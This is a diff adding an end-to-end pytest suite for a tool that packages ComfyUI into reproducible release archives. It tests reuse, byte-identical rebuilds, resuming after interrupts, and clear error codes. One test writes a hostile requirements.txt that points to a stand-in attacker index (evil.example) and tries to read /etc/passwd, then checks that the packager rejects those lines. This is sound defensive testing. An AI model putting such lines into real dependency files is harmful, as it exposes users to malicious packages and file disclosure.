@@ -1,0 +1,230 @@
+"""The road end to end: built, reused, reproduced, interrupted, refused."""
+
+from __future__ import annotations
+
+import hashlib
+import json
+import os
+import signal
+import subprocess
+import time
+import zipfile
+from pathlib import Path
+
+import pytest
+
+from .conftest import Built, Packager, write_app, write_recipe
+
+pytestmark = pytest.mark.e2e
+
+
+def sha256(path: Path) -> str:
+    return hashlib.sha256(path.read_bytes()).hexdigest()
+
+
+def test_build_leaves_the_release_files_and_says_what_it_did(built: Built) -> None:
+    result = built.result
+    names = sorted(path.name for path in built.zip.parent.iterdir())
+    stem = built.zip.stem
+    assert names == sorted(
+        ["SHA256SUMS", f"{stem}.zip", f"{stem}.manifest.json", f"{stem}.report.json", f"{stem}.report.html"]
+    )
+    assert result["proof"]["passed"]
+    assert len(result["proof"]["checks"]) > 10
+    assert result["size"]["archive"] == built.zip.stat().st_size
+    assert result["size"]["after"] < result["size"]["before"]
+    assert result["files"]["after"] < result["files"]["before"]
+    assert result["stages"][0]["name"] == "resolve"
+    subprocess.run(["sha256sum", "--check", "--strict", "SHA256SUMS"], cwd=built.zip.parent, check=True)
+
+
+def test_archive_has_one_root_and_what_the_user_needs(built: Built) -> None:
+    with zipfile.ZipFile(built.zip) as archive:
+        names = archive.namelist()
+    root = built.result["root"]
+    assert {name.split("/")[0] for name in names} == {root}
+    for wanted in (
+        "README.txt",
+        "run_comfyui.sh",
+        "install_package.sh",
+        "manage.sh",
+        "ComfyUI/main.py",
+        "python/bin/python",
+    ):
+        assert f"{root}/{wanted}" in names
+    assert f"{root}/ComfyUI/input/3d/" in names
+    assert not [name for name in names if "/__pycache__/" in name or "/.git/" in name or name.endswith(".bat")]
+
+
+def test_second_run_reuses_every_stage(built: Built) -> None:
+    before = sha256(built.zip)
+    again = built.packager.build()
+    assert all(stage["reused"] for stage in again["stages"]), again["stages"]
+    assert sha256(built.zip) == before
+
+
+def test_another_folder_umask_date_and_thread_count_give_the_same_bytes(built: Built, tmp_path: Path) -> None:
+    lock = built.packager.folder / "work" / "lock.json"
+    other = Packager(folder=tmp_path / "elsewhere with space")
+    other.folder.mkdir()
+    words = other.command("build", "quickstart", "-o", "dist", "--work", "w", "--lock", lock, "--no-prove", "--json")
+    done = subprocess.run(
+        ["sh", "-c", 'umask 077; exec "$@"', "sh", *words],
+        cwd=other.folder,
+        env={**os.environ, "TZ": "Asia/Tokyo", "LC_ALL": "C"},
+        capture_output=True,
+        text=True,
+        check=False,
+    )
+    assert done.returncode == 0, done.stderr
+    assert sha256(Path(json.loads(done.stdout)["archives"][0])) == sha256(built.zip)
+
+
+def stage_under_way(work: Path) -> str | None:
+    """The stage that the journal has as started and not done."""
+    try:
+        stages = json.loads((work / "journal.json").read_text())["stages"]
+    except (OSError, ValueError):
+        return None
+    return next((name for name, stage in stages.items() if not stage.get("done")), None)
+
+
+@pytest.mark.parametrize("number", [signal.SIGKILL, signal.SIGINT])
+def test_stopped_in_each_stage_it_resumes_to_the_same_bytes(
+    built: Built, tmp_path: Path, number: signal.Signals
+) -> None:
+    """kill -9 (and Ctrl-C) once in every stage, then run again: nothing is lost, nothing differs."""
+    other = Packager(folder=tmp_path)
+    words = [
+        "build",
+        "quickstart",
+        "-o",
+        "dist",
+        "--work",
+        "work",
+        "--lock",
+        built.packager.folder / "work" / "lock.json",
+    ]
+    stopped: list[str] = []
+    for _ in range(20):
+        process = subprocess.Popen(
+            other.command(*words, "--json"), cwd=tmp_path, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True
+        )
+        while process.poll() is None:
+            stage = stage_under_way(tmp_path / "work")
+            if stage and stage not in stopped:
+                time.sleep(0.05)  # into the stage, not before its first step
+                process.send_signal(number)
+                stopped.append(stage)
+                break
+            time.sleep(0.01)
+        output, errors = process.communicate(timeout=600)
+        if process.returncode == 0:
+            break
+        assert process.returncode == (130 if number == signal.SIGINT else -number), errors
+        if number == signal.SIGINT:
+            assert json.loads(output)["exit_code"] == 130
+        assert not list((tmp_path / "dist").glob("*.zip")), "an unproved archive was left in the output folder"
+    assert process.returncode == 0, errors
+    assert {"provision", "install", "clean", "relocate", "archive", "prove"} <= set(stopped)
+    assert sha256(Path(json.loads(output)["archives"][0])) == sha256(built.zip)
+
+
+def test_dry_run_changes_nothing(packager: Packager) -> None:
+    done = packager.run("build", "quickstart", "--dry-run", "-o", "dist", "--work", "work")
+    assert done.returncode == 0, done.stderr
+    assert "aiohttp==" in done.stdout
+    assert not (packager.folder / "dist").exists()
+    assert not (packager.folder / "work" / "bundle").exists()
+
+
+def test_node_that_fails_to_import_stops_the_release(packager: Packager, tmp_path: Path) -> None:
+    node = write_app(tmp_path / "broken-node", {"__init__.py": "import a_module_that_is_nowhere\n"})
+    done = packager.run("build", write_recipe(tmp_path, nodes=[node]), "-o", "dist", "--work", "work")
+    assert done.returncode == 5
+    assert "broken-node" in done.stderr
+    assert "a_module_that_is_nowhere" in done.stderr
+    assert not list((tmp_path / "dist").glob("*"))
+
+
+def test_install_script_that_fails_is_reported_by_node(packager: Packager, tmp_path: Path) -> None:
+    node = write_app(
+        tmp_path / "fussy", {"__init__.py": "NODE_CLASS_MAPPINGS = {}\n", "install.py": "raise SystemExit('no luck')\n"}
+    )
+    done = packager.run("build", write_recipe(tmp_path, nodes=[node]), "-o", "dist", "--work", "work", "--no-prove")
+    assert done.returncode == 0, done.stderr
+    assert "fussy: install.py exited with 1: no luck" in done.stderr
+
+
+def test_requirements_of_a_hostile_node_are_left_out_loudly(packager: Packager, tmp_path: Path) -> None:
+    node = write_app(tmp_path / "hostile", {"__init__.py": "NODE_CLASS_MAPPINGS = {}\n"})
+    (node / "requirements.txt").write_bytes(
+        "--index-url https://evil.example/simple\n-r ../../etc/passwd\nx @ file:///etc/passwd\nidna\n".encode("utf-16")
+    )
+    done = packager.run("build", write_recipe(tmp_path, nodes=[node]), "--dry-run", "--work", "work")
+    assert done.returncode == 0, done.stderr
+    assert "hostile/requirements.txt:1: left out '--index-url https://evil.example/simple'" in done.stderr
+    assert "hostile/requirements.txt:2: left out '-r ../../etc/passwd'" in done.stderr
+    assert "hostile/requirements.txt:3: left out 'x @ file:///etc/passwd'" in done.stderr
+    assert "idna==" in done.stdout
+
+
+@pytest.mark.parametrize(
+    ("lines", "code", "expected"),
+    [
+        (["python: '2.7'"], 2, "2.7"),
+        (["python_packages: ['a-package-that-does-not-exist-anywhere==99']"], 4, "a-package-that-does-not-exist"),
+        (["python_packages: ['numpy==1.26.4', 'numpy==2.1.0']"], 4, "numpy"),
+        (["accelerator: abacus"], 2, "unknown accelerator"),
+        (["cleanup: {opt_in: [no-such-rule]}"], 2, "no-such-rule"),
+    ],
+)
+def test_wish_that_cannot_be_met_has_its_own_exit_code(
+    packager: Packager, tmp_path: Path, lines: list[str], code: int, expected: str
+) -> None:
+    done = packager.run("build", write_recipe(tmp_path, *lines), "-o", "dist", "--work", "work")
+    assert done.returncode == code, done.stderr
+    assert expected in done.stderr
+    assert not (tmp_path / "dist").exists()
+
+
+def test_unreachable_host_is_one_clear_error_with_the_ways_out(packager: Packager) -> None:
+    environ = {"https_proxy": "http://127.0.0.1:9", "HTTPS_PROXY": "http://127.0.0.1:9"}
+    environ["PACKAGER_CACHE_DIR"] = str(packager.folder / "cache")
+    done = packager.run("build", "comfyui", "--work", "work", env=environ)
+    assert done.returncode == 3
+    assert "--mirror" in done.stderr
+    assert "--source" in done.stderr
+    assert "Traceback" not in done.stderr
+
+
+def test_app_that_is_no_comfyui_is_refused(packager: Packager, tmp_path: Path) -> None:
+    app = write_app(tmp_path / "app", {"readme.md": "x"})
+    done = packager.run("build", "quickstart", "--source", f"ComfyUI={app}", "-o", "dist", "--work", "work")
+    assert done.returncode == 1
+    assert "holds no main.py" in done.stderr
+
+
+def test_source_for_a_repository_the_recipe_does_not_name(packager: Packager) -> None:
+    done = packager.run("build", "quickstart", "--source", "typo=/tmp", "--work", "work")
+    assert done.returncode == 2
+    assert "no repository 'typo'" in done.stderr
+
+
+@pytest.mark.skipif(os.geteuid() != 0, reason="mounting a small tmpfs needs root")
+@pytest.mark.parametrize("full", ["work", "dist"])
+def test_full_disk_is_a_clear_error_and_leaves_no_archive(built: Built, packager: Packager, full: str) -> None:
+    mounted = packager.folder / full
+    mounted.mkdir()
+    size = "40m" if full == "work" else "2m"
+    mount = subprocess.run(["mount", "-t", "tmpfs", "-o", f"size={size}", "tmpfs", mounted], check=False)
+    if mount.returncode:
+        pytest.skip("this sandbox may not mount a tmpfs")
+    try:
+        done = packager.run("build", "quickstart", "-o", "dist", "--work", "work", "--no-prove")
+        assert done.returncode == 1, done.stderr
+        assert "no space left" in done.stderr.lower()
+        assert "Traceback" not in done.stderr
+        assert not list((packager.folder / "dist").glob("*.zip"))
+    finally:
+        subprocess.run(["umount", "-l", mounted], check=True)
